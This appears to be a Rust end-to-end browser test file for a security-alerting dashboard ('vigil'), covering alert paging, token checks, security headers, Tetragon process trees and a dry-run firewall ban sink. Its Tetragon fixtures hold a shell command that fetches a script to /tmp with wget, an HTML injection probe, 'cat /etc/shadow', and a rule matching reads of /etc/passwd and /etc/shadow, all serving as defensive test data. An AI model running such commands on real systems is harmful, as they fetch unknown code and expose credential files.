            "{ROWS_TITLED} return rows.length === 1 && rows[0].querySelector('td.status-cell .badge.status').textContent === '已解除' \
             && [...document.querySelectorAll('#alerts-table th')].map(t => t.textContent).join('|').includes('首次出現|最後出現|更新次數');"
        ),
        vec![json!("burst from a")],
    )
    .await;
    page.screenshot("alerts-lifecycle-zh-dark").await;
    page.close().await;
}

/// 30 alerts in pages of 25: the list says how many there are; "Oldest" shows the last
/// five, the API's last page; "Newest" goes back to the first page.
#[tokio::test(flavor = "multi_thread")]
async fn the_alert_list_goes_to_its_oldest_page_and_back() {
    let mut v =
        tokio::task::spawn_blocking(|| start("", "    type: file\n    path: {dir}/out.jsonl\n"))
            .await
            .expect("start");
    let events: Vec<Value> = (0..30).map(|i| event(&format!("10.0.0.{i}"), i)).collect();
    v.send(&events);
    let page = Page::open("paging", &format!("{}/#/alerts?limit=25", v.base)).await;
    page.wait(
        "the first 25 of 30",
        "return document.querySelector('#alerts-range')?.textContent === '1–25 of 30' \
           && document.querySelectorAll('#alerts-rows tr[data-id]').length === 25 \
           && !document.querySelector('#alerts-oldest').disabled;",
        vec![],
    )
    .await;
    page.click("#alerts-oldest").await;
    let shown = page
        .wait(
            "the oldest 5",
            "const rows = [...document.querySelectorAll('#alerts-rows tr[data-id]')]; \
             return document.querySelector('#alerts-range')?.textContent === '26–30 of 30' \
               && rows.length === 5 && document.querySelector('#alerts-oldest').disabled \
               && rows.map(r => r.dataset.id);",
            vec![],
        )
        .await;
    let api = v.api("/api/v1/alerts?limit=25&offset=25").await;
    let last: Vec<&str> = api["alerts"]
        .as_array()
        .expect("alerts")
        .iter()
        .filter_map(|a| a["id"].as_str())
        .collect();
    assert_eq!(shown, json!(last), "{api}");
    assert_eq!(api["total"], 30, "{api}");
    assert_eq!(
        api["next"],
        Value::Null,
        "a partial last page has no next: {api}"
    );
    page.click("#alerts-newest").await;
    page.wait(
        "the first page again",
        "return document.querySelector('#alerts-range')?.textContent === '1–25 of 30' \
           && document.querySelector('#alerts-newest').disabled;",
        vec![],
    )
    .await;
    page.close().await;
}

/// With a token configured the page and its files are served without it
/// (they hold no data) under a same-origin-only policy, while the API still needs it; the
/// live stream takes it as `?token=` too (a browser's `EventSource` cannot send headers).
#[tokio::test(flavor = "multi_thread")]
async fn the_page_needs_no_token_but_its_data_does() {
    const TOKEN: &str = "dash-token-3c9e";
    let v = tokio::task::spawn_blocking(|| {
        start_env(
            "  token: ${VIGIL_WEB_TOKEN}\n",
            "    type: file\n    path: {dir}/out.jsonl\n",
            &[("VIGIL_WEB_TOKEN", TOKEN)],
        )
    })
    .await
    .expect("start");
    let client = reqwest::Client::new();
    let get = |path: &str, token: Option<&str>| {
        let mut req = client.get(format!("{}{path}", v.base));
        if let Some(t) = token {
            req = req.bearer_auth(t);
        }
        req.send()
    };
    for path in ["/", "/assets/app.js", "/assets/app.css"] {
        let resp = get(path, None).await.expect("answer");
        assert_eq!(resp.status().as_u16(), 200, "{path}");
        let csp = resp.headers()["content-security-policy"]
            .to_str()
            .expect("ascii")
            .to_string();
        assert!(
            csp.contains("default-src 'none'") && csp.contains("script-src 'self'"),
            "{csp}"
        );
        assert!(!resp.text().await.expect("body").contains(TOKEN));
    }
    for path in ["/api/v1/pipelines", "/api/v1/alerts", "/api/v1/stream"] {
        assert_eq!(
            get(path, None).await.expect("answer").status().as_u16(),
            401,
            "{path}"
        );
        assert_eq!(
            get(path, Some(TOKEN))
                .await
                .expect("answer")
                .status()
                .as_u16(),
            200,
            "{path}"
        );
    }
    // `?token=` is for the stream only.
    let resp = get(&format!("/api/v1/stream?type=event&token={TOKEN}"), None)
        .await
        .expect("answer");
    assert_eq!(resp.status().as_u16(), 200);
    assert_eq!(resp.headers()["content-type"], "text/event-stream");
    assert_eq!(
        get("/api/v1/stream?token=wrong", None)
            .await
            .expect("answer")
            .status()
            .as_u16(),
        401
    );
    assert_eq!(
        get(&format!("/api/v1/pipelines?token={TOKEN}"), None)
            .await
            .expect("answer")
            .status()
            .as_u16(),
        401
    );
}

/// `vigil demo` end to end in the browser: the demo mails an alert, and the dashboard
/// shows that alert (its page, reached from the link in the mail).
#[cfg(feature = "demo")]
#[tokio::test(flavor = "multi_thread")]
async fn the_demo_dashboard_shows_a_mailed_alert() {
    let out = tempfile::tempdir().expect("temp");
    let (_demo, logs) = common::cli::spawn_demo(out.path());
    let mail_dir = out.path().join("mail");
    let mail = tokio::task::spawn_blocking(move || {
        let path = common::cli::first_mail(&mail_dir, Duration::from_secs(60));
        std::fs::read(path).expect("read the mail")
    })
    .await
    .expect("wait");
    let parsed = mail_parser::MessageParser::default()
        .parse(&mail[..])
        .expect("a mail");
    let text = parsed.body_text(0).expect("a text part").into_owned();
    // The mail links to its alert: `.../#/alerts/<id>`.
    let id = text
        .split("#/alerts/")
        .nth(1)
        .and_then(|rest| rest.split_whitespace().next())
        .expect("a link to the alert")
        .to_string();
    let title = text
        .lines()
        .find_map(|l| {
            l.strip_prefix('[')
                .and_then(|r| r.split_once("] "))
                .map(|(_, t)| t)
        })
        .expect("the alert's title line")
        .trim_end_matches(" (resolved)")
        .trim_end_matches(" (new)")
        .to_string();
    let addr = common::cli::web_address(&logs.lock().unwrap()).expect("the dashboard listens");
    let page = Page::open("demo-alert", &format!("http://{addr}/#/alerts/{id}")).await;
    // The page shows the alert's latest report: an episode that went on (or resolved) since
    // the mail has the same id and title template, its numbers may have moved.
    page.wait(
        "the mailed alert on its dashboard page",
        "const mask = (s) => s.replace(/[0-9]+/g, '#'); \
         const heading = document.querySelector('#alert-heading'); \
         return document.querySelector('#facts [data-fact=\"id\"] dd')?.textContent === arguments[1] \
           && heading && mask(heading.textContent).includes(mask(arguments[0]));",
        vec![json!(title), json!(id)],
    )
    .await;
    page.wait(
        "its delivery by the mail sink",
        "return /\\.mail/.test(document.body.innerText) && /sent/.test(document.body.innerText);",
        vec![],
    )
    .await;
    page.close().await;
}

/// A token made by `openssl rand -base64 32` (`+`, `/` and `=` in it), typed into the
/// Token dialog: the live stream connects with it (the page percent-encodes it in
/// `?token=`, the server decodes it) and shows an event written to vigil, under the
/// security headers and without a Content-Security-Policy violation.
#[tokio::test(flavor = "multi_thread")]
async fn the_live_stream_connects_with_a_base64_token() {
    const TOKEN: &str = "q+Vx/3kZ0Hn8yW1e+T4m/RbL9oPz7cJ2uA6sD5fGh0E=";
    let mut v = tokio::task::spawn_blocking(|| {
        start_env(
            "  token: ${VIGIL_WEB_TOKEN}\n",
            "    type: file\n    path: {dir}/out.jsonl\n",
            &[("VIGIL_WEB_TOKEN", TOKEN)],
        )
    })
    .await
    .expect("start");
    let page = Page::open("stream-base64-token", &format!("{}/#/stream", v.base)).await;
    // Any policy violation from here on is recorded.
    page.js(
        "window.__csp = []; document.addEventListener('securitypolicyviolation', (e) => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI)); return true;",
        vec![],
    )
    .await;
    page.wait(
        "the Token button",
        "return document.querySelector('#token-btn') !== null;",
        vec![],
    )
    .await;
    page.click("#token-btn").await;
    page.client
        .find(Locator::Css("#token-input"))
        .await
        .expect("token input")
        .send_keys(TOKEN)
        .await
        .expect("type the token");
    page.click("#token-form button[value=save]").await;
    page.wait(
        "the stream to connect with the token",
        "return document.querySelector('#s-status')?.dataset.state === 'live';",
        vec![],
    )
    .await;
    v.send(&[event("probe-b64", 1)]);
    page.wait(
        "the event on the stream",
        "return [...document.querySelectorAll('#stream-rows tr.stream-event')].some(r => r.textContent.includes('\"src\":\"probe-b64\"'));",
        vec![],
    )
    .await;
    // The page itself came with the headers that keep it out of frames and sniffing.
    let headers = page
        .js(
            "return fetch('/').then(r => ['x-frame-options', 'x-content-type-options', 'referrer-policy', 'content-security-policy'].map(h => r.headers.get(h)));",
            vec![],
        )
        .await;
    assert_eq!(headers[0], "DENY", "{headers}");
    assert_eq!(headers[1], "nosniff", "{headers}");
    assert_eq!(headers[2], "no-referrer", "{headers}");
    let csp = headers[3].as_str().expect("a policy");
    assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
    assert_eq!(
        page.js("return window.__csp;", vec![]).await,
        json!([]),
        "policy violations"
    );
    page.close().await;
}

/// The demo (ten shipped pipelines: seven `pce_events` sources reading the same PCE
/// events, top-N stages that add a table to their detection's alert) on a 1366×768
/// screen: the live stream shows each PCE event once and each alert once (the copy with
/// the table takes the first one's place), and the burst of high and critical alerts
/// shows at most three toasts, never over the header. A screenshot of every page is kept
/// as `target/screenshots/1366-<page>.png`.
#[tokio::test(flavor = "multi_thread")]
async fn the_demo_stream_shows_each_event_and_alert_once_under_three_toasts() {
    let out = tempfile::tempdir().expect("temp");
    let (_demo, logs) = common::cli::spawn_demo(out.path());
    let addr = common::cli::wait_web_address(&logs, DEADLINE).await;
    // (`close` saves the last page as `1366-end.png`.)
    let page = Page::open_sized("1366-end", &format!("http://{addr}/#/stream"), (1366, 768)).await;
    // A viewport of 1366×768 CSS pixels: the window is that plus its frame.
    let frame = page
        .js(
            "return [outerWidth - innerWidth, outerHeight - innerHeight];",
            vec![],
        )
        .await;
    let frame = |i: usize| u32::try_from(frame[i].as_u64().unwrap_or(0)).unwrap_or(0);
    page.client
        .set_window_size(1366 + frame(0), 768 + frame(1))
        .await
        .expect("the window resizes");
    let viewport = page
        .wait(
            "a 1366×768 viewport",
            "return innerWidth === 1366 && innerHeight === 768 && [innerWidth, innerHeight];",
            vec![],
        )
        .await;
    assert_eq!(viewport, json!([1366, 768]));
    // Watch the toasts for the whole test: the most shown at once, and any that reached
    // up over the header.
    page.js(
        "window.__toasts = { most: 0, over: [] }; \
         const box = document.getElementById('toasts'); \
         const check = () => { \
           const header = document.querySelector('.topbar').getBoundingClientRect(); \
           const shown = [...box.children]; \
           window.__toasts.most = Math.max(window.__toasts.most, shown.length); \
           for (const t of shown) { \
             const r = t.getBoundingClientRect(); \
             if (r.height > 0 && r.top < header.bottom) window.__toasts.over.push([r.top, header.bottom, t.textContent]); \
           } \
         }; \
         new MutationObserver(check).observe(box, { childList: true }); \
         setInterval(check, 50); \
         return true;",
        vec![],
    )
    .await;
    // Alerts of a rule with a top-N table (blocked traffic) and PCE events read by every
    // pipeline's `pce_events` source.
    let seen = page
        .wait_up_to(
            "PCE events, an alert with its top-N table and five toasts' worth of alerts",
            "const rows = [...document.querySelectorAll('#stream-rows tr[data-key]')]; \
             const events = rows.filter((r) => (r.dataset.id || '').startsWith('event:/orgs/')); \
             const alerts = rows.filter((r) => r.classList.contains('stream-alert')); \
             const tabled = alerts.filter((r) => r.textContent.includes('\"top\"')); \
             const loud = alerts.filter((r) => /high|critical/i.test(r.children[2].textContent)); \
             return events.length >= 20 && tabled.length >= 1 && loud.length >= 5 \
               && [events.length, alerts.length, tabled.length];",
            vec![],
            // The demo's first alerts come within a minute (tests/demo.rs).
            Duration::from_secs(60),
        )
        .await;
    let rows = page
        .js(
            "return [...document.querySelectorAll('#stream-rows tr[data-key]')] \
               .map((r) => [r.className, r.dataset.id || '', r.querySelector('summary')?.textContent || '']);",
            vec![],
        )
        .await;
    let rows = rows.as_array().expect("rows");
    let mut ids = std::collections::BTreeMap::<&str, usize>::new();
    for r in rows {
        let id = r[1].as_str().unwrap_or_default();
        assert!(
            !(r[0] == "stream-alert" && id.is_empty()),
            "an alert row without its id: {r}"
        );
        if !id.is_empty() {
            *ids.entry(id).or_default() += 1;
        }
    }
    let twice: Vec<_> = ids.iter().filter(|(_, n)| **n > 1).collect();
    assert!(
        twice.is_empty(),
        "shown more than once: {twice:?} (of {seen})"
    );
    // The stream on the wire: each event once.
    let mut wire = reqwest::get(format!("http://{addr}/api/v1/stream?type=event"))
        .await
        .expect("stream");
    let mut text = String::new();
    let until = Instant::now() + Duration::from_secs(40);
    while text.matches("\"id\":\"event:/orgs/").count() < 12 && Instant::now() < until {
        match tokio::time::timeout_at(until.into(), wire.chunk()).await {
            Ok(Ok(Some(c))) => text.push_str(&String::from_utf8_lossy(&c)),
            _ => break,
        }
    }
    // Whole lines only (the last chunk may end inside one).
    let text = text.rsplit_once('\n').map_or("", |(whole, _)| whole);
    let mut hrefs = std::collections::BTreeMap::<String, usize>::new();
    for line in text.lines().filter_map(|l| l.strip_prefix("data:")) {
        let v: Value = serde_json::from_str(line.trim()).expect("JSON data");
        if let Some(h) = v["record"]["href"].as_str() {
            *hrefs.entry(h.to_string()).or_default() += 1;
        }
    }
    assert!(hrefs.len() >= 10, "too few PCE events on the wire: {text}");
    let repeated: Vec<_> = hrefs.iter().filter(|(_, n)| **n > 1).collect();
    assert!(
        repeated.is_empty(),
        "events sent more than once: {repeated:?}"
    );
    let toasts = page.js("return window.__toasts;", vec![]).await;
    assert!(
        toasts["most"].as_u64().unwrap_or(99) <= 3 && toasts["most"].as_u64() >= Some(1),
        "{toasts}"
    );
    assert_eq!(toasts["over"], json!([]), "toasts over the header");
    page.screenshot("1366-stream").await;

    // Every page at 1366×768.
    let alert_id = page
        .js(
            "const links = [...document.querySelectorAll('#stream-rows tr.stream-alert a')]; \
             return (links.find((l) => /blocked connections|agent\\./.test(l.textContent)) || links[0])?.getAttribute('href');",
            vec![],
        )
        .await;
    let alert_hash = alert_id.as_str().unwrap_or("#/alerts").to_string();
    for (hash, name, ready) in [
        (
            "#/",
            "1366-overview",
            "return document.querySelectorAll('svg g.node, svg .node').length > 0 || document.querySelector('main h1');",
        ),
        (
            "#/alerts",
            "1366-alerts",
            "return document.querySelectorAll('#alerts-rows tr').length > 1;",
        ),
        (
            alert_hash.as_str(),
            "1366-alert",
            // The workloads (name, labels) come before the raw JSON.
            "const w = document.querySelector('#workloads'); \
             return document.querySelector('#alert-heading')?.textContent && w && w.querySelector('strong')?.textContent \
               && (w.compareDocumentPosition(document.querySelector('#samples')) & Node.DOCUMENT_POSITION_FOLLOWING);",
        ),
        (
            "#/silences",
            "1366-silences",
            "return document.querySelector('main h1')?.textContent;",
        ),
    ] {
        page.go(hash).await;
        page.wait(name, ready, vec![]).await;
        page.screenshot(name).await;
        // It fits the screen: nothing scrolls sideways.
        let wide = page
            .js(
                "return [document.documentElement.scrollWidth, innerWidth];",
                vec![],
            )
            .await;
        assert!(
            wide[0].as_u64() <= wide[1].as_u64(),
            "{name} is wider than the screen: {wide}"
        );
        // Times name their zone.
        let times = page
            .js(
                "return [...document.querySelectorAll('main time')].map((t) => t.textContent);",
                vec![],
            )
            .await;
        for t in times.as_array().into_iter().flatten() {
            assert!(
                t.as_str().is_some_and(|t| t == "—" || t.contains("UTC")),
                "{name}: {t}"
            );
        }
    }

    // A flow alert links each workload to its page on the PCE console it was read from.
    let flow_alert = page
        .wait(
            "an alert about a flow between workloads",
            "return fetch('/api/v1/alerts?limit=500').then((r) => r.json()).then((d) => { \
               const a = (d.alerts || []).find((a) => (a.samples || []).some((s) => { \
                 const r = s.record || {}; \
                 return r.vigil && r.vigil.connection && [r.src, r.dst].some((e) => e && e.workload && /\\/workloads\\//.test(e.workload.href || '')); })); \
               return a ? '#/alerts/' + encodeURIComponent(a.id) : null; });",
            vec![],
        )
        .await;
    page.go(flow_alert.as_str().expect("hash")).await;
    let link = page
        .wait(
            "a link to the PCE console",
            "return document.querySelector('#workloads a.pce-link')?.getAttribute('href');",
            vec![],
        )
        .await;
    let link = link.as_str().expect("href");
    let (base, uuid) = link.split_once("/#/workloads/").expect("a workload page");
    assert!(base.starts_with("http://127.0.0.1:"), "{link}");
    assert!(!uuid.is_empty() && !uuid.contains('/'), "{link}");
    page.close().await;
}

/// A file source reading Tetragon's export (`decode: tetragon`) → a filter on a file read
/// of `/etc/passwd` or `/etc/shadow` → `opened` (window_count, threshold 1) → a file.
const TETRAGON: &str = r#"kind: pipeline
name: t
description: Tetragon events
sources:
  tetragon: {type: file, path: "{dir}/tetragon.log", decode: tetragon, poll_interval: 50ms}
stages:
  match:
    type: filter
    inputs: [tetragon]
    match:
      event.type: process_kprobe
      arg.file.path: [/etc/passwd, /etc/shadow]
  opened:
    type: window_count
    inputs: [match]
    window: 1m
    threshold: 1
    group_by: [node_name, process.binary, arg.file.path]
    alert: {severity: critical, title: "{{group.arg.file.path}} opened by {{group.process.binary}}", mode: each_crossing}
sinks:
  out:
    type: file
    inputs: [opened]
    path: "{dir}/out.jsonl"
"#;

/// A pod of the `shop` namespace as Tetragon writes it.
fn tetragon_pod() -> Value {
    json!({
        "namespace": "shop",
        "name": "web-5c8f9",
        "container": {
            "id": "containerd://4be1f0c2d9",
            "name": "web",
            "image": {"id": "registry.local/web@sha256:77aa01", "name": "registry.local/web:2.3"},
            "start_time": "2026-03-02T08:00:00Z",
            "pid": 7
        },
        "pod_labels": {"app": "web"},
        "workload": "web"
    })
}

/// The live stream and an alert's page show a Tetragon event's process tree before its
/// JSON: the event type and the kprobe's function, policy and action; the parent's
/// command above the process's (binary and arguments, pid, uid, cwd), indented under it;
/// the pod, its image and the node; the file the kprobe saw. The stream has the decoder's
/// fields, the alert's sample the line as Tetragon wrote it; the raw JSON is a click away.
/// The values go in as text (an argument that reads as HTML stays text). In 繁體中文 the
/// labels are translated.
#[tokio::test(flavor = "multi_thread")]
async fn tetragon_events_show_their_process_tree_before_the_json() {
    let v = tokio::task::spawn_blocking(|| start_pipeline("", TETRAGON, &[]))
        .await
        .expect("start");
    let page = Page::open("tetragon", &format!("{}/#/stream", v.base)).await;
    page.wait(
        "the stream to connect",
        "return document.querySelector('#s-status')?.dataset.state === 'live';",
        vec![],
    )
    .await;

    // curl's cousin fetching a script, started by a shell; then cat reading /etc/shadow.
    let exec = json!({
        "process_exec": {
            "process": {
                "exec_id": "d29ya2VyLTM6OTkwMTI6NDQxMDc=",
                "pid": 44107, "uid": 1000, "cwd": "/srv/app",
                "binary": "/usr/bin/wget",
                "arguments": "-q -O /tmp/.x http://198.51.100.7/x.sh",
                "flags": "execve clone",
                "start_time": "2026-03-02T09:14:05.120Z",
                "auid": 1000,
                "pod": tetragon_pod(),
                "parent_exec_id": "d29ya2VyLTM6OTkwMDA6NDQwOTA=",
                "tid": 44107
            },
            "parent": {
                "exec_id": "d29ya2VyLTM6OTkwMDA6NDQwOTA=",
                "pid": 44090, "uid": 1000, "cwd": "/srv/app",
                "binary": "/bin/sh",
                "arguments": "-c \"wget -q -O /tmp/.x http://198.51.100.7/x.sh # <img src=x>\"",
                "flags": "execve clone",
                "start_time": "2026-03-02T09:14:04.900Z",
                "pod": tetragon_pod(),
                "tid": 44090
            }
        },
        "node_name": "worker-3",
        "time": "2026-03-02T09:14:05.121Z"
    });
    let kprobe = json!({
        "process_kprobe": {
            "process": {
                "exec_id": "d29ya2VyLTM6OTk1MDA6NDQyMjI=",
                "pid": 44222, "uid": 0, "cwd": "/",
                "binary": "/usr/bin/cat",
                "arguments": "/etc/shadow",
                "flags": "execve rootcwd clone",
                "start_time": "2026-03-02T09:14:06.500Z",
                "auid": 4294967295u32,
                "pod": tetragon_pod(),
                "parent_exec_id": "d29ya2VyLTM6OTk0MDA6NDQyMDA=",
                "refcnt": 1,
                "tid": 44222
            },
            "parent": {
                "exec_id": "d29ya2VyLTM6OTk0MDA6NDQyMDA=",
                "pid": 44200, "uid": 0, "cwd": "/",
                "binary": "/bin/bash",
                "flags": "execve rootcwd clone",
                "start_time": "2026-03-02T09:14:01.000Z",
                "pod": tetragon_pod(),
                "tid": 44200
            },
            "function_name": "security_file_permission",
            "args": [{"file_arg": {"path": "/etc/shadow", "permission": "-rw-r-----"}}, {"int_arg": 4}],
            "return": {"int_arg": 0},
            "action": "KPROBE_ACTION_POST",
            "policy_name": "file-monitoring",
            "return_action": "KPROBE_ACTION_POST"
        },
        "node_name": "worker-3",
        "time": "2026-03-02T09:14:06.600Z"
    });
    {
        let mut f = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(v._dir.path().join("tetragon.log"))
            .expect("the export file");
        writeln!(f, "{exec}\n{kprobe}").expect("write");
    }

    // What a row's (or a sample's) process view shows, as text.
    const VIEW: &str = "const view = (root) => { const p = root && root.querySelector('.proc'); if (!p) return null; \
         const text = (css) => p.querySelector(css)?.textContent ?? null; \
         const left = (css) => p.querySelector(css)?.getBoundingClientRect().left ?? 0; \
         const raw = p.querySelector('details.proc-raw'); \
         return { type: text('.proc-type'), fn: text('.proc-fn'), \
           policy: text('[data-fact=\"policy\"]'), action: text('.proc-action'), \
           cmd: text('.proc-self .proc-cmd'), bin: text('.proc-self .proc-bin'), \
           pid: text('.proc-self [data-fact=\"pid\"]'), uid: text('.proc-self [data-fact=\"uid\"]'), \
           cwd: text('.proc-self [data-fact=\"cwd\"]'), \
           parent: text('.proc-parent > .proc-line .proc-cmd'), parent_bin: text('.proc-parent > .proc-line .proc-bin'), \
           parent_pid: text('.proc-parent > .proc-line [data-fact=\"pid\"]'), \
           indented: left('.proc-self .proc-line') > left('.proc-parent > .proc-line'), \
           pod: text('[data-fact=\"pod\"]'), image: text('[data-fact=\"image\"]'), node: text('[data-fact=\"node\"]'), \
           file: text('[data-fact=\"file\"]'), permission: text('[data-fact=\"permission\"]'), \
           tree_first: !!(raw && (p.querySelector('.proc-tree').compareDocumentPosition(raw) & Node.DOCUMENT_POSITION_FOLLOWING)), \
           raw_open: raw ? raw.open : null, raw: raw?.querySelector('pre.json')?.textContent ?? '', \
           elements: p.querySelectorAll('img, script').length }; };";

    // The stream: the decoder's fields, drawn as a tree.
    let rows = page
        .wait(
            "both events and the alert in the stream",
            &format!(
                "{VIEW} const rows = [...document.querySelectorAll('#stream-rows tr.stream-event')]; \
                 const of = (t) => rows.map(view).find((v) => v && v.type === t); \
                 const alert = document.querySelector('#stream-rows tr.stream-alert a'); \
                 const exec = of('process_exec'), kprobe = of('process_kprobe'); \
                 return exec && kprobe && alert ? {{ exec, kprobe, alert: alert.textContent }} : null;"
            ),
            vec![],
        )
        .await;
    let exec_row = &rows["exec"];
    assert_eq!(
        exec_row["cmd"], "/usr/bin/wget -q -O /tmp/.x http://198.51.100.7/x.sh",
        "{rows}"
    );
    assert_eq!(exec_row["bin"], "/usr/bin/wget", "{rows}");
    assert_eq!(exec_row["pid"], "pid 44107", "{rows}");
    assert_eq!(exec_row["uid"], "uid 1000", "{rows}");
    assert_eq!(exec_row["cwd"], "cwd /srv/app", "{rows}");
    assert_eq!(
        exec_row["parent"],
        "/bin/sh -c \"wget -q -O /tmp/.x http://198.51.100.7/x.sh # <img src=x>\"",
        "an argument that reads as HTML is shown as text: {rows}"
    );
    assert_eq!(
        exec_row["elements"], 0,
        "no element made from the data: {rows}"
    );
    assert_eq!(exec_row["parent_bin"], "/bin/sh", "{rows}");
    assert_eq!(exec_row["parent_pid"], "pid 44090", "{rows}");
    assert_eq!(
        exec_row["indented"], true,
        "the process is under its parent: {rows}"
    );
    assert_eq!(exec_row["pod"], "Pod shop/web-5c8f9", "{rows}");
    assert_eq!(exec_row["image"], "Image registry.local/web:2.3", "{rows}");
    assert_eq!(exec_row["node"], "Node worker-3", "{rows}");
    assert_eq!(exec_row["tree_first"], true, "{rows}");
    assert_eq!(exec_row["raw_open"], false, "the JSON is folded: {rows}");
    assert!(
        exec_row["raw"]
            .as_str()
            .is_some_and(|r| r.contains("\"binary\": \"/usr/bin/wget\"")),
        "the decoder's fields under it: {rows}"
    );
    let kprobe_row = &rows["kprobe"];
    assert_eq!(kprobe_row["fn"], "security_file_permission", "{rows}");
    assert_eq!(kprobe_row["policy"], "policy file-monitoring", "{rows}");
    assert_eq!(kprobe_row["action"], "KPROBE_ACTION_POST", "{rows}");
    assert_eq!(kprobe_row["cmd"], "/usr/bin/cat /etc/shadow", "{rows}");
    assert_eq!(kprobe_row["parent"], "/bin/bash", "{rows}");
    assert_eq!(kprobe_row["file"], "File /etc/shadow", "{rows}");
    assert_eq!(kprobe_row["permission"], "Permission -rw-r-----", "{rows}");
    assert_eq!(
        rows["alert"], "/etc/shadow opened by /usr/bin/cat",
        "{rows}"
    );
    page.screenshot("tetragon-stream").await;

    // The alert's page: its sample is the line as Tetragon wrote it, drawn the same way.
    page.click("#stream-rows tr.stream-alert a").await;
    let sample = page
        .wait(
            "the alert's sample as a process tree",
            &format!("{VIEW} return view(document.querySelector('#samples .sample'));"),
            vec![],
        )
        .await;
    assert_eq!(sample["type"], "process_kprobe", "{sample}");
    assert_eq!(sample["fn"], "security_file_permission", "{sample}");
    assert_eq!(sample["policy"], "policy file-monitoring", "{sample}");
    assert_eq!(sample["cmd"], "/usr/bin/cat /etc/shadow", "{sample}");
    assert_eq!(sample["pid"], "pid 44222", "{sample}");
    assert_eq!(sample["parent"], "/bin/bash", "{sample}");
    assert_eq!(sample["parent_pid"], "pid 44200", "{sample}");
    assert_eq!(sample["indented"], true, "{sample}");
    assert_eq!(sample["pod"], "Pod shop/web-5c8f9", "{sample}");
    assert_eq!(sample["image"], "Image registry.local/web:2.3", "{sample}");
    assert_eq!(sample["node"], "Node worker-3", "{sample}");
    assert_eq!(sample["file"], "File /etc/shadow", "{sample}");
    assert_eq!(sample["permission"], "Permission -rw-r-----", "{sample}");
    assert_eq!(sample["tree_first"], true, "{sample}");
    assert_eq!(sample["raw_open"], false, "{sample}");
    assert!(
        sample["raw"]
            .as_str()
            .is_some_and(|r| r.contains("\"process_kprobe\": {")
                && r.contains("\"function_name\": \"security_file_permission\"")),
        "the raw line under it: {sample}"
    );
    // The raw JSON opens with a click.
    page.click("#samples details.proc-raw > summary").await;
    page.wait(
        "the raw JSON shown",
        "const d = document.querySelector('#samples details.proc-raw'); \
         return d.open && d.querySelector('pre.json').getBoundingClientRect().height > 50;",
        vec![],
    )
    .await;
    page.screenshot("tetragon-alert").await;

    // 繁體中文, dark.
    page.chinese_and_dark().await;
    let zh = page
        .wait(
            "the sample's labels in Chinese",
            "const p = document.querySelector('#samples .sample .proc'); \
             if (document.documentElement.dataset.theme !== 'dark' || !p) return null; \
             const text = (css) => p.querySelector(css)?.textContent; \
             return text('.proc-parent .proc-role') === '父行程' && [text('.proc-self .proc-role'), \
               text('[data-fact=\"file\"]'), text('[data-fact=\"node\"]'), text('details.proc-raw > summary')];",
            vec![],
        )
        .await;
    assert_eq!(
        zh,
        json!(["行程", "檔案 /etc/shadow", "節點 worker-3", "原始 JSON"])
    );
    page.screenshot("tetragon-alert-zh-dark").await;
    page.close().await;
}

/// An `nftables_ban` sink in its default dry run: the alert's deliveries say what it
/// would have applied, and the Bans page says the sink changes nothing, lists no ban, and
/// answers a ban made by hand with the JSON it would apply (in 繁體中文 too).
#[tokio::test(flavor = "multi_thread")]
async fn the_bans_page_of_a_dry_run_sink() {
    let mut v = tokio::task::spawn_blocking(|| start("", "    type: nftables_ban\n    ttl: 30m\n"))
        .await
        .expect("start");
    v.send(&[event("203.0.113.7", 1)]);
    let mut id = String::new();
    for _ in 0..200 {
        let alerts = v.api("/api/v1/alerts").await;
        let sent = alerts["alerts"][0]["deliveries"][0]["state"] == "sent";
        if let (Some(a), true) = (alerts["alerts"][0]["id"].as_str(), sent) {
            id = a.to_string();
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(!id.is_empty(), "the alert's delivery");
    let page = Page::open("bans", &format!("{}/#/alerts/{id}", v.base)).await;
    let outcome = page
        .wait(
            "the delivery's outcome",
            "return document.querySelector('#deliveries-table td.outcome')?.textContent;",
            vec![],
        )
        .await;
    assert!(
        outcome.as_str().is_some_and(|o| o.starts_with(
            "dry run: would apply {\"nftables\":[{\"add\":{\"element\":{\"family\":\"inet\",\"table\":\"vigil\",\"name\":\"banned4\",\"elem\":[{\"elem\":{\"val\":\"203.0.113.7\",\"timeout\":1800"
        )),
        "{outcome}"
    );
    page.go("#/bans").await;
    page.wait(
        "the Bans page",
        "return document.querySelector('[data-sink=\"p.out\"][data-dry-run=\"true\"]') \
           && document.querySelector('#bans-rows td.empty') \
           && document.querySelector('nav.main-nav a[href=\"#/bans\"]').getAttribute('aria-current') === 'page';",
        vec![],
    )
    .await;
    page.js(
        "document.querySelector('#ban-address').value = '198.51.100.9'; \
         document.querySelector('#ban-ttl').value = '10m'; return true;",
        vec![],
    )
    .await;
    page.click("#ban-submit").await;
    let said = page
        .wait(
            "the answer",
            "return document.querySelector('#ban-message')?.textContent;",
            vec![],
        )
        .await;
    assert!(
        said.as_str()
            .is_some_and(|s| s.starts_with("dry run: would apply")
                && s.contains("\"val\":\"198.51.100.9\",\"timeout\":600")),
        "{said}"
    );
    let bans = v.api("/api/v1/bans?all=true").await;
    assert_eq!(bans["bans"], json!([]), "a dry run records no ban: {bans}");
    assert_eq!(bans["sinks"][0]["dry_run"], true, "{bans}");
    page.screenshot("bans-dry-run").await;
    page.js(
        "const l = document.getElementById('lang'); l.value = 'zh-TW'; l.dispatchEvent(new Event('change')); return true;",
        vec![],
    )
    .await;
    page.wait(
        "the page in 繁體中文",
        "return document.querySelector('main h1')?.textContent === '封鎖' \
           && document.querySelector('[data-sink=\"p.out\"]')?.textContent.includes('試運行');",
        vec![],
    )
    .await;
    page.close().await;
}
